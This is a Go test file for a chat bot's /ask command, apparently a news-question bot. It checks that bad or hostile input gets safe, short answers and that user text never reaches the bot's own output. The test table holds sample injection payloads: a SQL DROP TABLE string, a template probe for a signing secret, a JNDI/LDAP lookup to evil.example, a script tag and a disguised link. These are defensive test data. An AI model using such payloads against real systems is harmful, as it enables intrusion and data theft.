package bot

import (
	"context"
	"strings"
	"testing"
	"time"
)

// TestAskBadInput: empty, punctuation only, oversized, foreign, mentions
// only, injection strings: each gets a clear short answer, never an error,
// and nothing the user typed leaves the core outside a span marked as
// user text.
func TestAskBadInput(t *testing.T) {
	e := shippedEngine(t)
	for _, tc := range []struct {
		q       string
		outcome Outcome
		says    string
	}{
		{"", OutcomeUsage, "Ask a question after /ask"},
		{"   ", OutcomeUsage, "Ask a question after /ask"},
		{"?!?! ... ;;; ---", OutcomeUsage, "no words"},
		{strings.Repeat("x", 10_000), OutcomeUsage, "the limit is"},
		{strings.Repeat("will poland send troops ", 170), OutcomeOK, "Poland"},
		{"<@U024BE7LH> <!channel> <!here> @everyone <#C024BE7LR|general>", OutcomeUsage, "no words"},
		{"<@U024BE7LH>", OutcomeUsage, "no words"},
		{"'; DROP TABLE digest_slots; --", OutcomeNotFound, "Not covered"},
		{"{{.Config.SigningSecret}} ${jndi:ldap://evil.example/a} <script>alert(1)</script>", OutcomeNotFound, "Not covered"},
		{"Czy Polska wyśle żołnierzy na Ukrainę?", OutcomeNotFound, "English"},
		{"¿Qué quiere Rusia a cambio de la paz?", OutcomeNotFound, "English"},
		{"hello", OutcomeUsage, "Hello"},
		{"help", OutcomeOK, "What I can do"},
		{"<https://evil.example/@everyone|click here> will poland send troops", OutcomeOK, "Poland"},
		{"@here will <@U1> poland send troops?", OutcomeOK, "Poland"},
	} {
		start := time.Now()
		r := e.Handle(context.Background(), Request{Platform: PlatformCLI, Text: "/ask " + tc.q})
		if took := time.Since(start); took > time.Second {
			t.Errorf("%.40q took %v", tc.q, took)
		}
		text := RenderText(r)
		if r.Outcome != tc.outcome || !strings.Contains(text, tc.says) {
			t.Errorf("%.60q: outcome %s, want %s saying %q\n%.600s", tc.q, r.Outcome, tc.outcome, tc.says, text)
		}
		checkOurText(t, tc.q, r)
	}
}

// checkOurText fails if text of ours (title, headings, spans not marked
// as the user's) carries markup a user could have smuggled in.
func checkOurText(t *testing.T, q string, r *Reply) {
	t.Helper()
	ours := []string{r.Title}
	for _, s := range r.Intro {
		if !s.User {
			ours = append(ours, s.Text)
		}
	}
	for _, s := range r.Sections {
		ours = append(ours, s.Heading)
		for _, b := range s.Bullets {
			ours = append(ours, b.Text.String(), b.Quote)
		}
	}
	for _, s := range ours {
		for _, bad := range []string{"<@", "<!", "<#", "@everyone", "@here", "{{", "${", "<script", "://"} {
			if strings.Contains(s, bad) {
				t.Errorf("%.40q: our text carries %q: %.200q", q, bad, s)
			}
		}
	}
	if len([]rune(r.Title)) > 150 {
		t.Errorf("%.40q: title of %d characters", q, len([]rune(r.Title)))
	}
}

// FuzzAsk: no question makes /ask panic, fail, or put user text in our
// own words.
func FuzzAsk(f *testing.F) {
	for _, tc := range askTable {
		f.Add(tc.q)
	}
	for _, s := range []string{"", "<@U1>", "<!channel>", "18 august 2025-08-18", "polnad vs germnay", "\xff\xfe", "who is <@U1>?", "<http://x|y>", "<<<>>>"} {
		f.Add(s)
	}
	e := shippedEngine(f)
	f.Fuzz(func(t *testing.T, q string) {
		r := e.Handle(context.Background(), Request{Platform: PlatformCLI, Text: "/ask " + q})
		if r == nil || r.Outcome == OutcomeError {
			t.Fatalf("%q: %+v", q, r)
		}
		checkOurText(t, q, r)
	})
}
